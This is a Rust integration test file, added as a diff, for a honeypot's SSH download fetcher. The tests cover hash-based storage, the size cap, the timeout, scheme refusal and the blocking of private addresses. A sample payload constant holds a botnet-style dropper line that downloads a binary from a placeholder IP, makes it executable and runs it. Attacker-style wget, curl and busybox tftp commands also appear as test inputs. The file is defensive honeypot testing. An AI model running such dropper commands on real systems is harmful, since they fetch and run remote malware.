@@ -1,0 +1,226 @@
+//! The opt-in download fetcher through SSH `exec` with the real OpenSSH client: a local HTTP
+//! server's payload stored under its sha256, the size cap, the timeout, other schemes, and
+//! private addresses refused unless allowed.
+
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use apiary_event::{Event, Kind};
+use apiary_pot::{Limits, ServiceConfig};
+use sha2::{Digest, Sha256};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+use crate::ssh::{have, run, ssh_args};
+use crate::support::{TestPot, service, start};
+
+const PAYLOAD: &[u8] =
+    b"#!/bin/sh\ncd /tmp; wget http://203.0.113.9/bins/x86; chmod +x x86; ./x86 ssh\n";
+
+/// A tiny HTTP/1.1 server on 127.0.0.1:0: `/x.sh` is the payload, `/big` streams 1 MiB
+/// without a Content-Length, `/hang` reads the request and never answers, `/gone` is a 404.
+/// Counts the connections it accepted.
+async fn http_server() -> (u16, Arc<AtomicUsize>) {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let hits = Arc::new(AtomicUsize::new(0));
+    let counter = Arc::clone(&hits);
+    tokio::spawn(async move {
+        loop {
+            let Ok((mut s, _)) = listener.accept().await else { return };
+            counter.fetch_add(1, Ordering::SeqCst);
+            tokio::spawn(async move {
+                let mut req = Vec::new();
+                let mut buf = [0u8; 1024];
+                while !req.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match s.read(&mut buf).await {
+                        Ok(0) | Err(_) => return,
+                        Ok(n) => req.extend_from_slice(&buf[..n]),
+                    }
+                }
+                let line = String::from_utf8_lossy(&req).lines().next().unwrap_or("").to_owned();
+                let path = line.split(' ').nth(1).unwrap_or("");
+                match path {
+                    "/x.sh" => {
+                        let head = format!(
+                            "HTTP/1.1 200 OK\r\nContent-Type: text/x-sh\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+                            PAYLOAD.len()
+                        );
+                        let _ = s.write_all(head.as_bytes()).await;
+                        let _ = s.write_all(PAYLOAD).await;
+                    }
+                    "/big" => {
+                        let _ = s.write_all(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n").await;
+                        let chunk = vec![b'A'; 64 * 1024];
+                        for _ in 0..16 {
+                            if s.write_all(&chunk).await.is_err() {
+                                return;
+                            }
+                        }
+                    }
+                    "/hang" => {
+                        tokio::time::sleep(Duration::from_secs(120)).await;
+                    }
+                    _ => {
+                        let _ = s
+                            .write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+                            .await;
+                    }
+                }
+                let _ = s.shutdown().await;
+            });
+        }
+    });
+    (port, hits)
+}
+
+fn ssh_fetching(dir: &std::path::Path, private: bool) -> ServiceConfig {
+    let mut s = service("SSH", "ssh", &["tcp:0"]);
+    let opts = format!(
+        r#"
+        host_key_dir = "{0}/keys"
+        host_keys = ["ed25519"]
+        accept = "any"
+        auth_delay = "10ms"
+        fetch = true
+        fetch_dir = "{0}/downloads"
+        fetch_max_bytes = 100000
+        fetch_timeout = "3s"
+        fetch_private = {private}
+        "#,
+        dir.display()
+    );
+    s.options = toml::from_str(&opts).unwrap();
+    s
+}
+
+/// Waits (generously: fetches run in the background) until `count` events of the fetcher's
+/// two kinds have been emitted.
+async fn outcomes(pot: &TestPot, count: usize) -> Vec<Event> {
+    for _ in 0..600 {
+        let done: Vec<Event> = pot
+            .events
+            .snapshot()
+            .into_iter()
+            .filter(|e| matches!(e.kind.as_str(), "download.fetched" | "download.failed"))
+            .collect();
+        if done.len() >= count {
+            return done;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    panic!("timed out waiting for {count} fetch outcomes: {:#?}", pot.events.snapshot());
+}
+
+fn by_url<'a>(events: &'a [Event], url: &str) -> &'a Event {
+    events
+        .iter()
+        .find(|e| e.download.as_ref().is_some_and(|d| d.url == url))
+        .unwrap_or_else(|| panic!("no outcome for {url}: {events:#?}"))
+}
+
+fn start_ssh(dir: &std::path::Path, private: bool) -> (TestPot, u16) {
+    let pot = start(&[ssh_fetching(dir, private)], Limits::default(), "127.0.0.1");
+    let port = pot.handle.addr("SSH", apiary_event::Transport::Tcp).unwrap().port();
+    (pot, port)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn fetched_stored_by_hash_cut_timed_out_and_other_schemes() {
+    if !have(&["ssh", "sshpass"]) {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let (http, _) = http_server().await;
+    let (pot, port) = start_ssh(dir.path(), true);
+    let base = format!("http://127.0.0.1:{http}");
+    let cmd = format!(
+        "wget {base}/x.sh; curl -O {base}/big; wget {base}/hang; wget {base}/gone; busybox tftp -g -r bins.sh 127.0.0.1"
+    );
+    let o = run(ssh_args(port, "pw", &["root@127.0.0.1", &cmd]), None).await;
+    // The fake shell's answer is what it was before the fetcher: wget still "fails".
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(err.contains(&format!("Connecting to 127.0.0.1:{http}... failed")), "{err}");
+    let done = outcomes(&pot, 5).await;
+
+    let ok = by_url(&done, &format!("{base}/x.sh"));
+    assert_eq!(ok.kind, Kind::new("download.fetched"));
+    let sha = format!("{:x}", Sha256::digest(PAYLOAD));
+    let d = ok.download.as_ref().unwrap();
+    assert_eq!(d.sha256.as_deref(), Some(sha.as_str()));
+    assert_eq!(d.size, Some(PAYLOAD.len() as u64));
+    assert_eq!(ok.fields["status"], 200);
+    assert_eq!(ok.fields["duplicate"], false);
+    let stored = dir.path().join("downloads").join(&sha);
+    assert_eq!(ok.fields["path"].as_str().unwrap(), stored.display().to_string());
+    assert_eq!(std::fs::read(&stored).unwrap(), PAYLOAD);
+
+    let big = by_url(&done, &format!("{base}/big"));
+    assert_eq!(big.kind, Kind::new("download.failed"));
+    assert_eq!(big.fields["reason"], "too_large");
+    assert!(big.fields["bytes"].as_u64().unwrap() > 100_000, "{big:?}");
+    let hang = by_url(&done, &format!("{base}/hang"));
+    assert_eq!(hang.fields["reason"], "timeout", "{hang:?}");
+    let gone = by_url(&done, &format!("{base}/gone"));
+    assert_eq!(gone.fields["reason"], "http_status");
+    assert_eq!(gone.fields["status"], 404);
+    let tftp = by_url(&done, "tftp://127.0.0.1/bins.sh");
+    assert_eq!(tftp.fields["reason"], "scheme");
+
+    // Only the payload was kept: no partial file of the cut or timed-out bodies.
+    let names: Vec<String> = std::fs::read_dir(dir.path().join("downloads"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert_eq!(names, vec![sha.clone()]);
+
+    // The same payload again is recorded as a duplicate, stored once.
+    let again =
+        run(ssh_args(port, "pw", &["root@127.0.0.1", &format!("wget {base}/x.sh")]), None).await;
+    assert!(again.status.code().is_some(), "{again:?}");
+    let done = outcomes(&pot, 6).await;
+    let dup = done.last().unwrap();
+    assert_eq!(dup.kind, Kind::new("download.fetched"));
+    assert_eq!(dup.fields["duplicate"], true);
+    assert_eq!(std::fs::read_dir(dir.path().join("downloads")).unwrap().count(), 1);
+
+    // Each outcome belongs to the session whose command asked for it.
+    let events = pot.finish().await;
+    let attempt = events
+        .iter()
+        .find(|e| {
+            e.kind == Kind::DOWNLOAD_ATTEMPT && e.download.as_ref().unwrap().url.ends_with("/x.sh")
+        })
+        .unwrap();
+    assert!(attempt.session.is_some());
+    assert_eq!(ok.session, attempt.session);
+    assert_ne!(dup.session, attempt.session);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn private_addresses_are_refused_by_default() {
+    if !have(&["ssh", "sshpass"]) {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let (http, hits) = http_server().await;
+    let (pot, port) = start_ssh(dir.path(), false);
+    // An IP literal, and a name whose resolved address is loopback.
+    let literal = format!("http://127.0.0.1:{http}/x.sh");
+    let named = format!("http://localhost:{http}/x.sh");
+    let o = run(
+        ssh_args(port, "pw", &["root@127.0.0.1", &format!("wget {literal}; curl -O {named}")]),
+        None,
+    )
+    .await;
+    assert!(o.status.code().is_some(), "{o:?}");
+    let done = outcomes(&pot, 2).await;
+    for url in [&literal, &named] {
+        let e = by_url(&done, url);
+        assert_eq!(e.kind, Kind::new("download.failed"));
+        assert_eq!(e.fields["reason"], "private_address", "{e:?}");
+    }
+    assert_eq!(hits.load(Ordering::SeqCst), 0, "the server was never contacted");
+    assert_eq!(std::fs::read_dir(dir.path().join("downloads")).unwrap().count(), 0);
+    pot.finish().await;
+}
